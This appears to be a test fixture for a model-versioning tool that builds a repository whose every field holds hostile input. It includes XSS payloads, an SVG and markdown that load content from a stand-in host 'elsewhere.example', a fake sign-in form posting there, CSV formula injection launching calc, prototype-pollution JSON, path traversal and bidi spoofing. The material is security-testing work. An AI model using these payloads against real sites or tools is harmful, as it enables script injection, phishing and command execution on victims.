/** A repository in which everything that somebody can write was written by somebody hostile. */
import * as fs from "node:fs";
import { join } from "node:path";
import { push } from "../../src/files/push.ts";
import type { StageName } from "../../src/values/label.ts";
import { promote } from "../../src/versions/promote.ts";
import { remark } from "../../src/versions/remark.ts";
import { run } from "../../src/versions/run.ts";
import { save } from "../../src/versions/save.ts";
import { makeSandbox, type Sandbox } from "../support/sandbox.ts";
import { type Made, makeVersion } from "../support/versions.ts";

/** The global that each payload sets where it runs. */
export const RAN = "pwned";
/** Where payloads would send something, or load something from. */
const ELSEWHERE = "elsewhere.example";

const RUN = `window.${RAN}=1;alert(1)`;
/** In one line, without control characters: what notes and reasons may be. */
export const EVIL =
  `"'><img src=x onerror="${RUN}"><script>${RUN}</script>` +
  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>\${${RAN}=1}{{constructor.constructor('${RAN}=1')()}}`;
/** As the name of a file; no more than 255 bytes between slashes. */
const FILE = `"'><img src=x onerror="window.${RAN}=1">`;
/** Turns the text around, hides a part of it, and rings. */
const UNSEEN = "\u202egnp.exe\u2066\u200b\u0007\u001b[31m";

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  width="40" height="40" onload="${RUN}">
<script>${RUN}</script><script xlink:href="http://${ELSEWHERE}/x.js"/>
<style>@import url(http://${ELSEWHERE}/x.css); rect { fill: url(http://${ELSEWHERE}/x.svg#a) }</style>
<image href="http://${ELSEWHERE}/x.png" onerror="${RUN}" width="9" height="9"/>
<use href="http://${ELSEWHERE}/x.svg#a"/><use href="data:image/svg+xml,&lt;svg onload='${RUN}'/&gt;#a"/>
<a href="javascript:${RUN}"><rect width="30" height="30"/></a><animate onbegin="${RUN}" attributeName="x" dur="1s"/>
<foreignObject width="9" height="9">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="http://${ELSEWHERE}/"/></foreignObject>
</svg>`;

const CARD = `---
license: ${EVIL}
---
# ${EVIL}

<script>${RUN}</script>
<!-- <script>${RUN}</script> --> <!--> <img src=x onerror="${RUN}"> -->
<iframe src="javascript:${RUN}"></iframe><object data="data:text/html,<script>${RUN}</script>"></object>
<meta http-equiv="refresh" content="0;url=http://${ELSEWHERE}/"><base href="http://${ELSEWHERE}/">
<link rel="stylesheet" href="http://${ELSEWHERE}/x.css"><style>body { display: none }</style>
<form action="http://${ELSEWHERE}/"><input name="mvgit" id="mvgit"><button>Sign in</button></form>

[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](java&#10;script:${RUN}) [d](data:text/html,<script>${RUN}</script>)
[e](vbscript:x) [f](&#106;avascript:${RUN}) [g](<javascript:${RUN}>)
[h](\u0001javascript:${RUN}) [i](blob:x) [j](file:///etc/passwd)
[k](//${ELSEWHERE}/x) [l](http://${ELSEWHERE}/x "${EVIL.replaceAll('"', "'")}")
[m](../../etc/passwd) [n](files/../moves) <javascript:${RUN}>
![p](http://${ELSEWHERE}/x.png) ![q](data:image/svg+xml,<svg onload=${RUN}>)
![r](//${ELSEWHERE}/x.png) ![s](w/evil.svg "x\\" onerror=\\"${RUN}")
![t](https://${ELSEWHERE}/${EVIL.replaceAll(/[\s()]/g, "")}) [u]: javascript:${RUN}
[u] [v][u] ![w][u]

| ${EVIL.replaceAll("|", "")} | b |
| --- | --- |
| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |

\`\`\`html
<script>${RUN}</script>
\`\`\`

${">".repeat(3000)} deep ${"[".repeat(3000)}${"*".repeat(3000)}a${"_".repeat(3000)}

${"- ".repeat(500)}x

${UNSEEN}
`;

const JSON_TRICKS = `{"__proto__": {"${RAN}": 1}, "constructor": {"prototype": {"${RAN}": 1}},
"hasOwnProperty": 1, "toString": "${RAN}",
"big": 123456789012345678901234567890, "bigger": 1e400, ${JSON.stringify(EVIL)}: ${JSON.stringify(EVIL)}}`;

const EVIL_CELL = EVIL.replaceAll(/["\n,]/g, "");
const ROW = `=HYPERLINK("http://${ELSEWHERE}"),${EVIL_CELL},${UNSEEN},\0\n`;
const CSV = `${EVIL_CELL},=cmd|' /C calc'!A0,@SUM(1+1),__proto__\n${ROW.repeat(50)}"${"x".repeat(1 << 20)}`;

/** A header of safetensors, whose names and shapes are anybody's. */
function tensors(change: number): Buffer {
  const bytes = { dtype: "F32", shape: [2], data_offsets: [0, 8] };
  const head = JSON.stringify({
    __metadata__: { [EVIL]: EVIL, format: UNSEEN },
    [EVIL]: bytes,
    constructor: { dtype: "F32", shape: [2], data_offsets: [8, 16] },
    [`x${change}`]: { dtype: "F32", shape: [2, 1, 1], data_offsets: [16, 24] },
  }).replace('"constructor"', '"__proto__"');
  const size = Buffer.alloc(8);
  size.writeBigUInt64LE(BigInt(Buffer.byteLength(head)));
  return Buffer.concat([size, Buffer.from(head), Buffer.from(new Float32Array([1, 2, 3, change, 5, 6]).buffer)]);
}

const LINES = Array.from({ length: 30 }, (_, step) =>
  JSON.stringify({ step, [EVIL]: step, loss: step % 2 ? 1e308 : -1e308, constructor: step, toString: 5e-324 }),
).join("\n");

const NONE = { data: [], weights: ["w", "model.safetensors"], params: ["params.json"], metrics: ["metrics.json"] };

/** What a package of somebody else's hand says besides. */
const SAID: Omit<Made, "model" | "version"> = {
  time: "9999-12-31T23:59:59+00:00",
  message: EVIL,
  notes: [EVIL, UNSEEN],
  run: {
    command: ["sh", "-c", EVIL, UNSEEN, `http://user:secret@${ELSEWHERE}/`],
    folder: "",
    started: "0001-01-01T00:00:00+00:00",
    seconds: 1e15,
    secrets: [EVIL],
    changedInputs: [],
    status: 0,
    id: null,
  },
  origins: { [EVIL]: EVIL, a: UNSEEN },
  environment: {
    [EVIL]: EVIL,
    system: { os: EVIL, [UNSEEN]: UNSEEN, constructor: EVIL },
    seen: "processes",
    interpreters: [
      ...["a", EVIL].map((packages) => ({
        kind: "python",
        role: "program",
        version: EVIL,
        implementation: EVIL,
        packages,
      })),
      { kind: EVIL, role: EVIL, version: UNSEEN, executable: { place: EVIL, path: EVIL }, packages: "constructor" },
    ],
    packages: {
      a: {
        installed: [`${EVIL}==${EVIL}`, "__proto__==1", `${UNSEEN}==1`, "a @ javascript:alert(1)"],
        installer: EVIL,
      },
    },
  },
};

const deep = (letter: string, depth: number): string => letter.repeat(depth);

/** Three versions with a stage, notes, a retraction and a run that failed; the host has all of it. */
export async function makeHostileRepository(): Promise<Sandbox> {
  const box = await makeSandbox({ inMemory: true });
  box.env["GIT_AUTHOR_NAME"] = box.env["GIT_COMMITTER_NAME"] = EVIL;
  const write = (round: number): void => {
    box.write("work/README.md", CARD);
    box.write("work/train.py", `# ${EVIL}\n${UNSEEN}${round}\n<script>${RUN}</script>\n`);
    box.write(`work/${FILE}.py`, `${round}`);
    box.write("work/params.json", `{"round": ${round}, "nested": ${JSON_TRICKS}, ${JSON_TRICKS.slice(1)}`);
    const scores = `"__proto__": 1, "constructor": ${round}, "toString": 1e308, ${JSON.stringify(EVIL)}: ${round}`;
    box.write("work/metrics.json", `{"accuracy": 0.${round}, ${scores}}`);
    box.write("work/w/evil.svg", SVG);
    box.write(`work/w/${FILE}.svg`, SVG);
    box.write("work/w/evil.html", `<script>${RUN}</script>`);
    box.write("work/w/evil.md", CARD);
    box.write("work/w/evil.csv", `${CSV}${round}`);
    box.write("work/w/evil.json", JSON_TRICKS);
    box.write("work/w/deep.json", `${deep("[", 900)}${"1,".repeat(120_000)}1${deep("]", 900)}`);
    box.write("work/w/deeper.json", `${deep("[", 100_000)}${deep("]", 100_000)}`);
    box.write("work/w/evil.txt", `${EVIL}${UNSEEN}\0${"y".repeat(2 << 20)}`);
    box.write("work/w/notebook.ipynb", JSON_TRICKS);
    fs.writeFileSync(join(box.dir, "work/model.safetensors"), tensors(round));
    box.write("log.jsonl", `${LINES}\n{"__proto__": 5}\n`);
  };
  for (const round of [1, 2]) {
    write(round);
    await box.git("work", [
      "add",
      "--",
      "README.md",
      "train.py",
      "params.json",
      "metrics.json",
      `:(literal)${FILE}.py`,
    ]);
    await save(await box.open(), {
      model: "spam",
      ...NONE,
      message: `${EVIL} ${round}`,
      log: join(box.dir, "log.jsonl"),
    });
  }
  const author = (await box.git("work", ["log", "-1", "--format=%an <%ae>"])).stdout.trim();
  await makeVersion(
    { cwd: join(box.dir, "work"), env: box.env },
    {
      model: "spam",
      version: 3,
      ...SAID,
      author,
      metrics: { [EVIL]: 3, accuracy: 1e308 },
      params: { [EVIL]: EVIL, a: UNSEEN },
    },
  );
  await push(await box.open(), { paths: [], all: true });
  await box.git("work", ["push", "-q", "--no-verify", "origin", "HEAD:main", "--tags"]);
  await remark(await box.open(), { label: "spam@v2", kind: "note", text: EVIL });
  await remark(await box.open(), { label: "spam@v3", kind: "retract", text: EVIL });
  for (const label of ["spam@v1", "spam@v2"])
    await promote(await box.open(), { label, stage: "production" as StageName, reason: EVIL, commit: true });
  await run(await box.open(), {
    ...{ model: "spam", data: [], weights: ["w.bin"], params: [], metrics: [], message: EVIL, env: [] },
    command: ["sh", "-c", `printf '%s\\n' "$1" >> "$MVGIT_LOG"; exit 3`, "sh", LINES, EVIL],
    signals: () => () => {},
    stdoutToStderr: true,
  }).catch(() => undefined);
  return box;
}
